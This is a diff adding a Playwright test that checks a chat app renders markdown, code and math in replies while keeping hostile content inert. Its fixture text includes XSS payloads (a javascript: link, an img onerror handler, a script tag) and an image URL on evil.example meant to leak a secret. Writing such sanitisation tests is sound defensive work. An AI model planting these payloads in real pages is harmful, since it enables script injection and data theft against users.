@@ -1,0 +1,96 @@
+import { expect, test } from '@playwright/test';
+import { makeDataDir, startHost, type RunningHost } from './fixtures/causerieHost';
+import { startFakeMistral, type FakeMistralServer } from './fixtures/fakeMistralServer';
+
+const KEY = 'e2e-key-markdown-000000';
+let fake: FakeMistralServer;
+let host: RunningHost;
+let cleanup: () => void;
+
+test.beforeAll(async () => {
+  fake = await startFakeMistral({ apiKey: KEY });
+  const dir = makeDataDir();
+  cleanup = dir.cleanup;
+  host = await startHost({
+    dataDir: dir.dataDir,
+    env: { MISTRAL_API_KEY: KEY, MISTRAL_BASE_URL: fake.url },
+  });
+});
+test.afterAll(async () => {
+  await host.stop();
+  await fake.close();
+  cleanup();
+});
+
+// The fake provider echoes the message, so the reply is exactly this markdown.
+const MARKDOWN = [
+  'Voici :',
+  '',
+  '## Résumé',
+  '',
+  'Some **bold**, ~~struck~~ and `inline code`, plus [a safe link](https://example.org/docs).',
+  '',
+  '- [x] done',
+  '- [ ] todo',
+  '',
+  '| Langue | Mot |',
+  '|---|---|',
+  '| fr | bonjour |',
+  '',
+  '```python',
+  'def greet(name):',
+  '    return f"Bonjour {name}"',
+  '```',
+  '',
+  'Inline math $e^{i\\pi} + 1 = 0$ and \\(a^2 + b^2\\):',
+  '',
+  '\\[\\int_0^1 x\\,dx = \\tfrac12\\]',
+  '',
+  '[click me](javascript:window.__pwned=1) <img src=x onerror="window.__pwned=1"> <script>window.__pwned=1</script>',
+  '',
+  '![tracker](https://evil.example/collect?q=secret)',
+].join('\n');
+
+test('replies render GitHub markdown, code and math, and nothing in them runs', async ({
+  page,
+}) => {
+  const external: string[] = [];
+  page.on('request', (request) => {
+    const url = new URL(request.url());
+    if (url.hostname !== '127.0.0.1') external.push(request.url());
+  });
+  await page.goto(host.url);
+  await page.getByRole('button', { name: 'New chat' }).click();
+  await page.getByRole('textbox', { name: 'Message' }).fill(MARKDOWN);
+  await page.getByRole('button', { name: 'Send' }).click();
+
+  const reply = page.getByRole('log', { name: 'Messages' }).locator('li.message-assistant');
+  await expect(reply.getByRole('heading', { name: 'Résumé' })).toBeVisible();
+  await expect(reply.locator('strong')).toHaveText('bold');
+  await expect(reply.locator('del')).toHaveText('struck');
+  await expect(reply.getByRole('table')).toContainText('bonjour');
+  await expect(reply.getByRole('checkbox')).toHaveCount(2);
+  // Highlighted once finished: the keyword gets its own element.
+  await expect(reply.locator('code.language-python .hljs-keyword').first()).toHaveText('def');
+  await expect(reply.getByRole('button', { name: 'Copy' })).toBeVisible();
+  // All three math forms became KaTeX.
+  await expect(reply.locator('.katex')).toHaveCount(3);
+  await expect(reply.locator('.math-display .katex-display')).toHaveCount(1);
+
+  const safe = reply.getByRole('link', { name: 'a safe link' });
+  await expect(safe).toHaveAttribute('href', 'https://example.org/docs');
+  await expect(safe).toHaveAttribute('rel', /noopener/);
+  // The javascript: link is inert text, the HTML is shown as text, the image is not fetched.
+  await expect(reply.getByRole('link', { name: 'click me' })).toHaveCount(0);
+  await expect(reply.locator('.link-inert')).toHaveText('click me');
+  await expect(reply.locator('img')).toHaveCount(0);
+  await expect(reply.locator('script')).toHaveCount(0);
+  await expect(reply).toContainText('<img src=x onerror=');
+  await expect(reply).toContainText('Image from evil.example not loaded');
+  await reply.locator('.link-inert').click();
+  expect(
+    await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
+  ).toBeUndefined();
+  expect(external).toEqual([]);
+  await page.screenshot({ path: test.info().outputPath('markdown.png'), fullPage: true });
+});
